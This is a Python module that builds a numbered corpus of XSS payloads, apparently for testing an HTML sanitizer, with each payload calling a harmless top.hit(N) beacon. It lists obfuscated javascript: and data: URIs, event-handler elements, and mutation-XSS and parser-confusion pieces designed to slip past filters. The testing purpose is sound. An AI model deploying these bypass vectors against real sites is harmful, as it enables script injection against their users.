"""Pieces of HTML that try to run a script: each calls `top.hit(N)`, where N is its number.

They are built of tables: ways to write an address, places where an address stands, events and their elements, and
pieces that are meant to be parsed differently a second time.
"""

import html
import itertools
import re
from urllib.parse import quote

RUN = "top.hit({})"
_SAID = re.compile(
    r"parent\.top\.hit\((\d+)\)"
)  # a frame of another origin can only send a message

# Ways to write an address that runs a script.
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}", "java\r\nscript:{}",
    "\x01javascript:{}", "\x1fjavascript:{}", "java\x00script:{}", "javascript\t:{}", "javascript:\n//%0a{}", "javascript://%0a{}",
    "javascript:/*x*/{}", "javascript:void {}", "javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "&#0000106avascript:{}",
    "java&Tab;script:{}", "java&NewLine;script:{}", "jav&#x0A;ascript:{}", "&#1;javascript:{}", "\u00a0javascript:{}", "\u200bjavascript:{}",
    "\ufeffjavascript:{}", "vbscript:{}", "data:text/html,<script>parent.{}</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
    "DATA:text/html,<script>parent.{}</script>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>parent.{}</script></svg>",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>parent.{}</script></html>", "data:,{}", "blob:javascript:{}",
    "javascript:{}//https://mistlebank.example/", "https:javascript:{}", "//javascript:{}", "feed:javascript:{}", "view-source:javascript:{}",
)  # fmt: skip
# Places where an address stands; `@` is the address.
PLACES = (
    '<a href="@">x</a>', "<a href='@'>x</a>", '<a xlink:href="@">x</a>', '<area href="@">', '<map name="m"><area shape="default" href="@"></map><img usemap="#m" src="x">',
    '<form action="@"><input type="submit"></form>', '<form><button formaction="@">x</button></form>', '<form><input type="image" formaction="@"></form>',
    '<form id="f"></form><button form="f" formaction="@">x</button>', '<iframe src="@"></iframe>', '<frameset><frame src="@"></frameset>', '<embed src="@">',
    '<object data="@"></object>', '<object><param name="movie" value="@"></object>', '<svg><a href="@"><text y="20">x</text></a></svg>',
    '<svg><a xlink:href="@"><text y="20">x</text></a></svg>', '<svg><use href="@"></use></svg>', '<svg><image href="@"></image></svg>', '<math href="@">x</math>',
    '<math><maction actiontype="statusline" xlink:href="@">x</maction></math>', '<math><mi xlink:href="@">x</mi></math>', '<link rel="stylesheet" href="@">', '<link rel="import" href="@">',
    '<base href="@"><a href="x">y</a>', '<meta http-equiv="refresh" content="0;url=@">', '<img src="@">', '<img srcset="@ 2x">', '<img dynsrc="@" lowsrc="@">', '<video src="@" poster="@"></video>',
    '<audio src="@"></audio>', '<video><source src="@"></video>', '<track src="@">', '<input type="image" src="@">', '<body background="@">', '<table background="@"><tr><td>x</table>',
    '<blockquote cite="@">x</blockquote>', '<a ping="@" href="#">x</a>', '<applet code="@"></applet>', '<bgsound src="@">', '<portal src="@"></portal>', '<div style="background:url(@)">x</div>',
    '<div style="width:expression(@)">x</div>', "<style>p{background:url('@')}</style>", '<svg><animate xlink:href="#x" attributeName="href" values="@"></animate><a id="x"><text>x</text></a></svg>',
    '<svg><a id="y"><text y="20">x</text><animate attributeName="href" values="@"></animate></a></svg>', '<svg><a id="z"><text>x</text><set attributeName="href" to="@"></set></a></svg>',
    '<svg><a><text>x</text><animate attributeName="xlink:href" from="@" to="@" begin="0s"></animate></a></svg>', '<isindex action="@" type="submit">', '<a target="_top" rel="opener" href="@">x</a>',
    '<details open><summary><a href="@">x</a></summary></details>', '<noscript><a href="@">x</a></noscript>', '<template shadowrootmode="open"><a href="@">x</a></template>',
)  # fmt: skip
# Elements with an event that happens by itself or by the clicks of the test; `@` is the script.
EVENTS = (
    "<img src=x onerror=@>", "<img src=x onerror='@'>", '<img src=x onerror="@">', "<img/src=x/onerror=@>", "<img src=x\nonerror\n=\n@>", "<IMG SRC=x ONERROR=@>",
    "<img src=x onerror&#61;@>", "<img src=x on\x00error=@>", "<img \x0conerror=@ src=x>", "<image src=x onerror=@>", "<svg onload=@>", "<svg/onload=@>", "<svg><g onload=@></g></svg>",
    "<svg><image href=x onerror=@></image></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s></animate></svg>", "<svg><set onbegin=@ attributeName=x></set></svg>",
    "<body onload=@>", "<body onpageshow=@>", "<iframe onload=@></iframe>", "<iframe src=x onload=@>", "<input autofocus onfocus=@>", "<select autofocus onfocus=@>", "<textarea autofocus onfocus=@>",
    "<details open ontoggle=@>x</details>", "<video src=x onerror=@></video>", "<video><source onerror=@ src=x></video>", "<audio src=x onerror=@></audio>", "<object data=x onerror=@></object>",
    "<embed src=x onload=@>", "<link rel=stylesheet href=data:, onload=@>", "<style onload=@></style>", "<marquee onstart=@>x</marquee>", "<button onclick=@>x</button>", "<a href=# onclick=@>x</a>",
    "<div onclick=@>x</div>", "<p tabindex=1 onfocus=@ autofocus>x</p>", "<x onclick=@>x</x>", "<my-widget onclick=@ tabindex=1>x</my-widget>", "<form onsubmit=@><input type=submit></form>",
    "<input type=checkbox onchange=@>", "<div contenteditable onfocus=@ tabindex=1>x</div>", "<math onclick=@><mi>x</mi></math>", "<p style='animation:a 1s' onanimationstart=@>x</p><style>@keyframes a{}</style>",
    "<dialog open onclose=@><form method=dialog><button>x</button></form></dialog>", "<button popovertarget=q>x</button><div popover id=q ontoggle=@>y</div>", "<picture><source srcset=x><img src=x onerror=@></picture>",
)  # fmt: skip
# Whole pieces; `@` is the script. Many are read differently by a parser that sees them for the second time.
PIECES = (
    "<script>@</script>", "<SCRIPT>@</SCRIPT>", "<script src='data:text/javascript,@'></script>", "<script\n>@</script\n>", "<scr<script>ipt>@</scr</script>ipt>", "<script>@", "<svg><script>@</script></svg>",
    "<svg><script href='data:text/javascript,@'></script></svg>", "<math><script>@</script></math>", "<<script>@</script>", "<script/x>@</script>", "<script type=module>@</script>", "<script>@<!--</script>-->",
    '<iframe srcdoc="<script>parent.@</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>', "<iframe srcdoc='<img src=x onerror=parent.@>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=@>'></noscript>", "<noembed><img title='</noembed><img src=x onerror=@>'></noembed>", "<noframes><img title='</noframes><img src=x onerror=@>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=@>'></xmp>", "<textarea><p title='</textarea><img src=x onerror=@>'></textarea>", "<title><p title='</title><img src=x onerror=@>'></title>",
    "<style><p title='</style><img src=x onerror=@>'></style>", "<iframe><p title='</iframe><img src=x onerror=@>'></iframe>", "<plaintext><img src=x onerror=@>", "<listing>&lt;img src=x onerror=@&gt;</listing>",
    "<svg><style><img src=x onerror=@></style></svg>", "<svg><style>&lt;img src=x onerror=@&gt;</style></svg>", "<math><style><img src=x onerror=@></style></math>", "<svg></p><style><a id='</style><img src=x onerror=@>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>", "<svg><desc><img src=x onerror=@></desc></svg>", "<svg><title><img src=x onerror=@></title></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=@></annotation-xml></math>", "<math><semantics><annotation-xml encoding='application/xhtml+xml'><script>@</script></annotation-xml></semantics></math>",
    "<template><img src=x onerror=@></template>", "<div><template shadowrootmode=open><img src=x onerror=@></template></div>", "<template shadowrootmode=closed><script>@</script></template>",
    "<!--><img src=x onerror=@>-->", "<!---><img src=x onerror=@>-->", "<!-- --!><img src=x onerror=@>-->", "<!--<img src='--><img src=x onerror=@>'>", "<!x><img src=x onerror=@>", "<?x ><img src=x onerror=@>?>", "<![CDATA[><img src=x onerror=@>]]>",
    "<svg><![CDATA[><img src=x onerror=@>]]></svg>", "</p><img src=x onerror=@>", "<table><td><img src=x onerror=@>", "<select><template><img src=x onerror=@></template></select>", "<select><img src=x onerror=@></select>",
    "<option><style></option></select><img src=x onerror=@></style>", "<a href='x' title='\"><img src=x onerror=@>'>y</a>", "<a title=\"`><img src=x onerror=@>\">y</a>", '<img alt="" src="x" onerror="@" alt="">', "<p id='</p><img src=x onerror=@>'>",
    "<b <img src=x onerror=@>", "<img src='x' title='&quot;&gt;&lt;img src=x onerror=@&gt;'>", "<a href=\"https://mistlebank.example/&quot; onclick=&quot;@\">x</a>", "<img src=`x` onerror=`@`>", "<div/onclick=@/style=position:fixed;inset:0>x</div>",
    "&lt;script&gt;@&lt;/script&gt;", "&#60;img src=x onerror=@&#62;", "+ADw-script+AD4-@+ADw-/script+AD4-", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>@</script></svg>#x'></use></svg>",
    "<embed type='text/html' src='data:text/html,<script>parent.@</script>'>", "<object type='text/html' data='data:text/html,<script>parent.@</script>'></object>", "<link rel=preload as=script href='data:text/javascript,@'>",
    "<meta http-equiv=refresh content='0; url=data:text/html,<script>parent.@</script>'>", "<meta http-equiv=Content-Security-Policy content=''><img src=x onerror=@>", "<base href='javascript:/a/-@/'><a href=''>x</a>",
    "<div is='x' onclick=@>y</div>", "<img src=x:x onerror=@ id=attributes name=nodeName>", "<form id=x><input name=attributes><input name=innerHTML><img src=x onerror=@></form>", "<frameset onload=@></frameset>", "<svg><discard onbegin=@></discard></svg>",
    "<p>&lt;</p>script>@</script>", "[x](javascript:@)", "![x](x 'y' onerror=@)", "<https://x onclick=@>", "[[javascript:@|x]]", "{{{</pre><img src=x onerror=@>}}}", '"x":javascript:@', "<pre>```\n</pre><img src=x onerror=@>", "<code>`</code><img src=x onerror=@>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them; `hit(N)` of each has its place in the list."""
    made: list[str] = []

    def add(shape: str, script: str) -> None:
        made.append(shape.replace("@", script))

    for address in ADDRESSES:  # in each way, in the places where most hosts take one
        for place in (PLACES[0], PLACES[5], PLACES[9]):
            run = RUN.format(len(made))
            add(place, html_safe(address.replace("{}", run)))
    for place, address in itertools.product(PLACES, (ADDRESSES[0], ADDRESSES[27])):
        add(place, html_safe(address.replace("{}", RUN.format(len(made)))))
    for shape in (*EVENTS, *PIECES):
        add(shape, RUN.format(len(made)))
    made = [_SAID.sub(r"top.postMessage(\1,'*')", payload) for payload in made]
    made += [deep(300, len(made)), deep(3000, len(made) + 1), deep(30_000, len(made) + 2)]
    return made


def html_safe(address: str) -> str:
    """An address as it can stand in quotes of either kind; references in it stay what they are."""
    return address.replace('"', "&quot;").replace("'", "%27").replace("<", "&lt;")


def deep(levels: int, number: int) -> str:
    """A script below many elements."""
    return (
        "<div>" * levels + f"<img src=x onerror={RUN.format(number)}>" + html.escape(quote("x"))
    )
